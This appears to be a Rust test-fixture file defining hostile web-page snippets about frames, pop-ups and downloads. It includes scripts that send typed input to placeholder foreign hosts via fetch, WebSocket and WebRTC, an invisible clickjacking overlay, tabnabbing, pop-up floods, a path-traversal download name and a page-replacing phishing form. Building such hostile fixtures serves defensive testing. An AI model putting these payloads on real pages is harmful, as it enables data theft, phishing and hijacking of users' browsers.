//! Pages that contain or open other pages: frames, pop-ups and downloads.

use super::hostility::Hostility;

pub(super) const WINDOWS: [Hostility; 18] = [
    Hostility::html(
        "frame-of-another-origin",
        "<iframe src=\"@FOREIGN@/frame\" width=\"300\" height=\"100\"></iframe>",
    ),
    Hostility::html(
        "frames-in-frames",
        "<iframe src=\"@HERE@/frame?depth=12\" width=\"300\" height=\"100\"></iframe>",
    ),
    Hostility::script(
        "many-frames",
        "for (let n = 0; n < 200; n++) {
  const frame = document.createElement('iframe');
  frame.src = n % 2 ? '@HERE@/frame?depth=0' : '@FOREIGN@/many';
  document.body.append(frame);
}",
    ),
    Hostility::html(
        "frame-over-everything",
        "<iframe srcdoc=\"<button style='width:100vw;height:100vh' onclick='parent.location.href=&quot;@FOREIGN@/over&quot;'>Continue</button>\" style=\"position:fixed;inset:0;width:100%;height:100%;opacity:.02;border:0;z-index:9\"></iframe>",
    ),
    Hostility::html(
        "foreign-objects",
        "<object data=\"@FOREIGN@/object\"></object><embed src=\"@THIRD@/embed\"><portal src=\"@FOREIGN@/portal\"></portal>",
    ),
    Hostility::script(
        "pop-ups-at-once",
        "for (let n = 0; n < 50; n++) window.open('@HERE@/frame?depth=0', 'window-' + n, 'width=200,height=200');",
    ),
    Hostility::script(
        "pop-ups-on-click",
        "const more = () => { for (let n = 0; n < 20; n++) window.open('@FOREIGN@/pop-up?n=' + n); };
for (const kind of ['mousedown', 'click', 'keydown']) addEventListener(kind, more, true);
setInterval(more, 1000);",
    ),
    Hostility::script(
        "calls-from-pop-ups",
        "const call = async (tab) => {
  const call = new tab.RTCPeerConnection({ iceServers: [{ urls: 'stun:@HOST@' }] });
  call.createDataChannel(typed());
  await call.setLocalDescription(await call.createOffer());
};
const all = () => { for (let n = 0; n < 5; n++) call(window.open('about:blank')).catch(() => {}); };
for (const kind of ['mousedown', 'input', 'click']) addEventListener(kind, all, true);",
    ),
    Hostility::script(
        "writes-into-pop-ups",
        "const write = () => {
  const tab = window.open();
  tab?.document.write('<img src=\"@FOREIGN@/written?' + encodeURIComponent(typed()) + '\"><iframe src=\"@FOREIGN@/written-frame\"></iframe><scr' + 'ipt>new WebSocket(\"@SOCKET@/written\")</scr' + 'ipt>');
};
for (const kind of ['mousedown', 'input', 'click']) addEventListener(kind, write, true);",
    ),
    Hostility::script(
        "pop-ups-of-its-own-making",
        "const make = () => {
  const page = '<scr' + 'ipt>fetch(\"@FOREIGN@/made?\" + encodeURIComponent(opener ? opener.typed?.() : 1))</scr' + 'ipt>';
  const blob = URL.createObjectURL(new Blob([page], { type: 'text/html' }));
  for (const features of ['', 'noopener', 'popup']) window.open(blob, '_blank', features);
};
for (const kind of ['mousedown', 'input', 'click']) addEventListener(kind, make, true);",
    ),
    Hostility::script(
        "continues-in-a-new-tab",
        "for (const form of document.forms) form.target = '_blank';
for (const link of document.links) link.target = '_blank';",
    ),
    Hostility::script(
        "new-tab-moves-the-old-one",
        "addEventListener('click', () => {
  const tab = window.open('@HERE@/frame?depth=0');
  tab?.addEventListener('load', () => { tab.opener.location.href = '@FOREIGN@/by-the-new-tab'; });
}, true);",
    ),
    Hostility::script(
        "closes-itself",
        "setTimeout(() => { window.open('', '_self'); window.close(); }, 400);",
    ),
    Hostility::script(
        "downloads-by-address",
        "setInterval(() => { location.href = '@HERE@/file?n=' + Math.random(); }, 300);",
    ),
    Hostility::both(
        "downloads-by-link",
        "<a id=\"load\" href=\"@HERE@/file\" download=\"../../.profile\">Continue with a file</a>",
        "for (let n = 0; n < 40; n++) document.getElementById('load').click();",
    ),
    Hostility::script(
        "downloads-a-blob",
        "const link = document.createElement('a');
link.href = URL.createObjectURL(new Blob([new Uint8Array(8 << 20)]));
link.download = 'eight-megabytes.bin';
setInterval(() => link.click(), 500);",
    ),
    Hostility::script(
        "takes-the-whole-screen",
        "addEventListener('click', () => {
  document.documentElement.requestFullscreen().catch(() => {});
  document.body.requestPointerLock?.();
}, true);",
    ),
    Hostility::script(
        "another-document-in-its-place",
        "setTimeout(() => {
  document.open();
  document.write('<title>Other</title><form action=\"@FOREIGN@/other\"><button>Continue</button></form>');
  document.close();
}, 600);",
    ),
];
